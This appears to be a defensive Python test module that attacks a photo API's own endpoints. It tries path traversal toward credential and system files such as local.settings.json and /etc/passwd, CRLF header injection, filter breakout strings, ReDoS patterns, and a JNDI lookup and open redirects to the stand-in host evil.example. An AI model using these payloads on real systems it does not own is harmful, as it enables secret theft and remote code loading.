"""Paths that lead out of where they belong, and text that means something to whoever reads it next."""

from collections.abc import Iterator
from urllib.parse import quote

from tests.attacks.attack import Attack, Check, NotApplicable
from tests.attacks.target import JSON, PATIENCE, Target

UPS = (
    "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "%252e%252e%252f", "..%5c", "..\\", "%c0%ae%c0%ae/", "%u002e%u002e/",
    "..;/", "....//", "..%00/", "%2e%2e%00/", "..%0d%0a/", "%ef%bc%8e%ef%bc%8e/", "..%c0%af", "..%ef%bc%8f", "./../",
)  # fmt: skip
# How many folders up from that of the page, and from anywhere.
SECRETS = ((1, "static.py"), (2, "host.json"), (2, "local.settings.json"), (8, "etc/passwd"), (8, "proc/self/environ"))
SIGNS = (b"root:", b"AzureWebJobsStorage", b"extensionBundle", b"import azure", b"PATH=", b"from functools import")
STARTS = (
    "/page/",
    "/page/x/",
    "/page/0123456789ab/",
    "/api/originals/",
    "/v1/models/",
    "/api/photos/",
    "/",
    "//",
    "/page//",
)
# Names that would mean something in a header, a page, a listing, a shell, a prompt or a file system.
NAMES = (
    "../escaped.jpg", "..%2fescaped.jpg", "%2e%2e/escaped.jpg", "a/../../escaped.jpg", "..\\escaped.jpg", "a//b.jpg",
    "", "%20", ".", "..", "%2e", "%2e%2e", "a/", "/a", "a.", "a/.", "%00", "a%00.jpg", "a%0d%0aX-Injected:%20yes.jpg",
    "a%0a.jpg", "a%7f.jpg", "a%c2%85.jpg", "%ed%a0%80.jpg", "%ff.jpg", "%c0%af.jpg", "%ef%bf%be.jpg", "%ef%bf%bf.jpg",
    "a%5cb.jpg", "a" * 1025, "a/" * 254 + "a", "%F0%9F%92%A9" * 600, "con%0b.jpg", "%e2%80%a8%01.jpg",
)  # fmt: skip
IDS = (
    "x", "0" * 31, "0" * 33, "g" * 32, "0" * 32 + "%00", "0" * 32 + "/", "..%2f" + "0" * 32, "'%20or%201%20eq%201", "*",
    "%ff", "%ed%a0%80", "0" * 32 + "%0d%0aX-Injected:%20yes", "a" * 5000, "%F0%9F%92%A9", "0" * 31 + "%C2%B2",
    "null", "-1",
    "%D9%A0" * 32, "//evil.example/", "%2f%2fevil.example", "https:%2f%2fevil.example",
)  # fmt: skip
BREAKOUTS = (
    "x' or 1 eq 1 or path eq '", "x' or true or path eq '", "'", "''", "x') or (1 eq 1) or (path eq '", "\\'",
    "x\\' or 1 eq 1 or '",
    "x%27 or 1 eq 1", "\u2019 or 1 eq 1 or \u2019", "x'\x00", "x' eq 'x", "x', 'path') or search.ismatch('*', 'path",
    'x" or "1"="1',
    "*", ".*", "/.*/", "x) or (*", "title:*", "path:/.*/", "x|*", "x,*", "-x", "x*~10^1000", "\"x\" OR *",
    "[* TO *]", "x' and geo.distance(",
)  # fmt: skip
TEXT_FILTERS = (
    "folder", "tag", "any_tag", "color", "camera", "place", "city", "state", "country", "creator", "made_by", "credit",
    "rights", "keyword", "keyword_path", "filed_under",
)  # fmt: skip
QUERIES = (
    *BREAKOUTS, "(" * 1000, '"' * 999, "a " * 999, "*" * 1000, "?" * 1000, "~" * 500, "/(a+)+$/",
    "/" + "(a*)*" * 100 + "b/",
    "a" * 2000, "AND OR NOT", "&& || !", "\\" * 999, "\u202e\u200b\ufeff", "\ud7ff\ue000", "%", "${jndi:ldap://evil.example/a}",
    "{{7*7}}", "<script>", "\U0001f4a9" * 900, "a\u0300" * 900, "\r\n\r\n", "\x00",
)  # fmt: skip


def attacks() -> Iterator[Attack]:
    for start in STARTS:
        yield Attack("traversal", f"out of {start}", _traversal(start))
    yield Attack("upload path", f"{len(NAMES)} names that no photo may have", _names)
    for method, tail in (("GET", ""), ("DELETE", ""), ("GET", "/original"), ("GET", "/thumbnail"), ("GET", "/similar")):
        yield Attack("id", f"{method} of {len(IDS)} that are none{tail and ' with ' + tail}", _ids(method, tail))
    yield Attack("id", "those of retries", _retry_ids)
    yield Attack("id", "a photo that is not there and one that cannot be look alike", _enumeration)
    for name in TEXT_FILTERS:
        yield Attack("filter injection", f"out of {name}", _injection(name))
    for mode in ("hybrid", "keyword", "vector"):
        yield Attack("query injection", f"{len(QUERIES)} queries that are syntax, {mode}", _queries(mode))
    yield Attack("query injection", "parameters that a search does not have", _parameters)


def _traversal(start: str) -> Check:
    def check(target: Target) -> None:
        for up in UPS:
            for depth, secret in SECRETS:
                path = start + up * depth + secret
                reply = target.send("GET", path)
                assert not any(sign in reply.body for sign in SIGNS), f"{path}: {reply}"
                assert start == "/" or reply.status != 200, f"{path}: {reply}"
                _assert_stays(reply.header("location"))

    return check


def _assert_stays(location: str) -> None:
    assert "evil.example" not in location, f"a redirect to {location}"


def _names(target: Target) -> None:
    for name in NAMES:
        for method in ("PUT", "GET", "DELETE"):
            start = "/api/photos/" if method == "PUT" else "/api/originals/"
            reply = target.send(method, f"{start}{target.folder}/{name}", body=b"x" if method == "PUT" else b"")
            stored = reply.json()["path"] if reply.status in {200, 201} else f"{target.folder}/"
            assert stored.startswith(f"{target.folder}/"), f"{name!r} became {stored!r}"
            assert not {"", ".", ".."} & set(stored.split("/")[1:-1]), f"{name!r} became {stored!r}"
            assert reply.status in {0, 200, 201, 400, 401, 404, 405}, f"{method} {name[:100]!r}: {reply}"
            assert "x-injected" not in reply.names, f"{name!r} became a header"


def _ids(method: str, tail: str) -> Check:
    def check(target: Target) -> None:
        for id_ in IDS:
            reply = target.send(method, f"/api/photos/{id_}{tail}")
            assert reply.status in {400, 401, 404, 405}, f"{id_[:100]!r}: {reply}"
            assert "x-injected" not in reply.names, f"{id_!r} became a header"
            _assert_stays(reply.header("location"))

    return check


def _retry_ids(target: Target) -> None:
    for id_ in IDS:
        target.send("POST", f"/api/failures/{id_}/retry", JSON, status=(400, 401, 404, 405))


def _enumeration(target: Target) -> None:
    missing = target.send("GET", f"/api/photos/{'0' * 32}")
    retry = target.send("POST", f"/api/failures/{'0' * 32}/retry", JSON)
    link = target.send("GET", f"/api/photos/{'0' * 32}/original")
    assert {missing.status, retry.status, link.status} <= {401, 404}, f"{missing} {retry} {link}"


def _injection(name: str) -> Check:
    def check(target: Target) -> None:
        everything = target.send("GET", "/api/search?top=1&fold=false")
        if everything.status == 401 or not target.photos:
            raise NotApplicable("searches need a key")
        for breakout in BREAKOUTS:
            value = breakout.replace("x", "qzxwvj")  # a word of no photo: the letter alone may be a tag of some
            reply = target.send("GET", f"/api/search?top=1&fold=false&{name}={quote(value)}", status=(200, 400))
            if reply.status == 200 and any(each.isalnum() for each in value):  # without a word there is no filter
                assert reply.json()["total"] < len(target.photos), f"{value!r} finds {reply.json()['total']} photos"

    return check


def _queries(mode: str) -> Check:
    def check(target: Target) -> None:
        for query in QUERIES:
            reply = target.send("GET", f"/api/search?mode={mode}&top=3&q={quote(query)}", status=(200, 400, 401))
            assert reply.seconds < PATIENCE, f"{query[:80]!r} took {reply.seconds:.0f} s"

    return check


def _parameters(target: Target) -> None:
    for name in (
        "$filter",
        "filter",
        "search",
        "orderby",
        "select",
        "vector",
        "api-version",
        "exact",
        "filters",
        "__proto__",
    ):
        target.send("GET", f"/api/search?{quote(name)}=1", status=(400, 401))
    for value in ("relevance desc", "newest,oldest", "path", "$count"):
        target.send("GET", f"/api/search?sort={quote(value)}", status=(400, 401))
